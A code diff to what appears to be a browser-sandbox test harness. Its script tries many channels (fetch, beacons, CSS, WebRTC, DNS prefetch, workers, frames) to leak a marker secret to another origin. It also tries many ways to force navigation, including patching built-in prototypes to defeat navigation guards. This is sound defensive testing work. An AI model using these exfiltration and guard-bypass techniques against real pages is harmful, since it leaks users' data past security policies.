@@ -3,24 +3,32 @@
 /** Every way, by name. Each sends `tag` to `there`, another origin, and where it can to the page's own origin too. */
 export const CHANNELS = [
   "fetch", "XHR", "sendBeacon", "image", "CSS url()", "@font-face", "form", "prefetch and preload", "WebSocket",
-  "EventSource", "WebRTC", "worker", "iframe", "preconnect", "navigation",
+  "EventSource", "WebRTC", "worker", "iframe", "dns-prefetch", "navigation",
 ];
 
-/** The text of the script. `seal` is the policy that boot.js adds to the page; empty where there is to be none. */
-export const script = (orders) => `(${leak})(${JSON.stringify(orders)});`;
+/** What else a script can do. The last two need a person who clicks where the script wants it. */
+export const FURTHER = ["preconnect", "a click: new tab, another host", "a click: new tab, own host"];
 
-function leak({ tag, there, socket, connect, stun, seal }) {
+/** The ways a script can send its own page elsewhere, without anybody's click. */
+export const LEAVINGS = [
+  "location", "refresh", "link", "link in the top frame", "window.open", "form", "download", "frame's parent",
+  "link in a frame", "sandboxed frame", "navigation.navigate", "document.open", "own listener", "own preventDefault",
+  "own getters", "own strings", "address, then reload",
+];
+
+/** The text of the script. `sealed` says whether it runs in a page that has sealed itself, by its own `seal.js`. */
+export const script = (orders) =>
+  (orders.sealed ? 'import { seal, stay } from "./seal.js";' : "const seal = () => {}; const stay = seal;") +
+  `(${leak})(${JSON.stringify(orders)}, seal, stay);`;
+
+function leak({ tag, there, socket, connect, stun, dns, leave }, seal, stay) {
   const ways = [there, "/"];
   const to = (base, channel) => `${base}leak/${tag}/${encodeURIComponent(channel)}?secret=denial-2026-08-31`;
   // The page's own script has made the only policy there may be before the page is sealed: it counts as stolen.
   const stolen = globalThis.trustedTypes?.createPolicy("imr", { createScriptURL: (url) => url });
-  if (seal) {
-    const meta = document.createElement("meta");
-    meta.httpEquiv = "Content-Security-Policy";
-    meta.content = seal;
-    document.head.append(meta);
-  }
-  const element = (name, set) => document.body.appendChild(Object.assign(document.createElement(name), set));
+  stay();
+  seal();
+  const element = (name, set, under = document.body) => under.appendChild(Object.assign(document.createElement(name), set));
   const sheet = () => {
     const made = new CSSStyleSheet();
     document.adoptedStyleSheets.push(made);
@@ -54,33 +62,101 @@ function leak({ tag, there, socket, connect, stun, seal }) {
     },
     "prefetch and preload": (url) => {
       element("link", { rel: "prefetch", href: `${url}&by=prefetch` });
-      document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "fetch", href: `${url}&by=preload` }));
+      element("link", { rel: "preload", as: "fetch", href: `${url}&by=preload` }, document.head);
     },
     WebSocket: (url) => url.startsWith("http") && new WebSocket(url.replace(there, socket)),
     EventSource: (url) => new EventSource(url),
     WebRTC: async () => {
-      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
-      peer.createDataChannel("secret");
-      await peer.setLocalDescription(await peer.createOffer());
+      // A frame of its own has constructors of its own.
+      const { contentWindow } = element("iframe", {});
+      for (const { RTCPeerConnection } of [window, contentWindow]) {
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
+        peer.createDataChannel("secret");
+        await peer.setLocalDescription(await peer.createOffer());
+      }
     },
     worker: (url) => new Worker(stolen ? stolen.createScriptURL(url) : url),
     iframe: (url) => element("iframe", { src: url }),
-    preconnect: () => {
-      element("link", { rel: "dns-prefetch", href: connect });
-      document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: connect }));
-    },
+    "dns-prefetch": () => element("link", { rel: "dns-prefetch", href: `http://${dns}/` }, document.head),
+    preconnect: () => element("link", { rel: "preconnect", href: connect }, document.head),
   };
-  window.tryAll = async () => {
+  window.attempt = async (names) => {
     const said = {};
-    for (const [channel, send] of Object.entries(channels)) {
+    for (const channel of names) {
       for (const base of ways) {
         // Whatever it answers does not count; only what arrives does.
         await Promise.resolve()
-          .then(() => Promise.race([send(to(base, channel)), Promise.resolve()]))
+          .then(() => Promise.race([channels[channel](to(base, channel)), Promise.resolve()]))
           .catch((error) => (said[channel] = String(error)));
       }
     }
     return said;
   };
-  window.navigate = () => location.assign(to(there, "navigation"));
+
+  const link = (url, set = {}, of = document) => {
+    const made = Object.assign(of.createElement("a"), { href: url, textContent: "a link", ...set });
+    of.body.append(made);
+    return made;
+  };
+  const go = (url) => location.assign(url);
+  const replace = (prototype, name, by) => {
+    try {
+      Object.defineProperty(prototype, name, by);
+    } catch {
+      // It is fixed: then the way out is tried all the same.
+    }
+  };
+  const leavings = {
+    location: go,
+    refresh: (url) => element("meta", { httpEquiv: "refresh", content: `0; url=${url}` }, document.head),
+    link: (url) => link(url).click(),
+    "link in the top frame": (url) => link(url, { target: "_top" }).click(),
+    "window.open": (url) => window.open(url, "_self"),
+    form: (url) => element("form", { action: url, target: "_top" }).submit(),
+    download: (url) => link(url, { download: "file" }).click(),
+    "frame's parent": (url) => (element("iframe", {}).contentWindow.parent.location = url),
+    "link in a frame": (url) => link(url, { target: "_parent" }, element("iframe", {}).contentDocument).click(),
+    "sandboxed frame": (url) => {
+      const frame = document.createElement("iframe");
+      frame.sandbox = "allow-scripts allow-same-origin allow-top-navigation";
+      frame.onload = () => (frame.contentWindow.top.location = url);
+      document.body.append(frame);
+    },
+    "navigation.navigate": (url) => navigation.navigate(url),
+    "document.open": (url) => (document.open(), go(url)),
+    "own listener": (url) => {
+      const stop = (event) => event.stopImmediatePropagation();
+      navigation.addEventListener("navigate", stop, true);
+      go(url);
+    },
+    "own preventDefault": (url) => {
+      for (const { prototype } of [Event, NavigateEvent]) replace(prototype, "preventDefault", { value: () => {} });
+      go(url);
+    },
+    "own getters": (url) => {
+      replace(NavigateEvent.prototype, "destination", { get: () => ({ url: location.href }) });
+      replace(NavigationDestination.prototype, "url", { get: () => location.href });
+      replace(Object.prototype, url, { value: true });
+      go(url);
+    },
+    "own strings": (url) => {
+      replace(String.prototype, "slice", { value: () => location.href });
+      replace(String.prototype, "includes", { value: () => true });
+      replace(String.prototype, "startsWith", { value: () => true });
+      go(url);
+    },
+    "address, then reload": (url) => {
+      if (!url.startsWith("/") || location.href.endsWith(url)) return;
+      history.replaceState(null, "", url);
+      location.reload();
+    },
+  };
+  // Another origin than its own cannot stand in a page's address.
+  const own = leave === "address, then reload";
+  if (leave) leavings[leave](to(own ? "/" : there, leave));
+  window.navigate = () => {
+    for (const base of ways) go(to(base, "navigation"));
+  };
+  link(to(there, "a click: new tab, another host"), { target: "_blank", rel: "noopener", id: "there" });
+  link(to("/", "a click: new tab, own host"), { target: "_blank", rel: "noopener", id: "own" });
 }
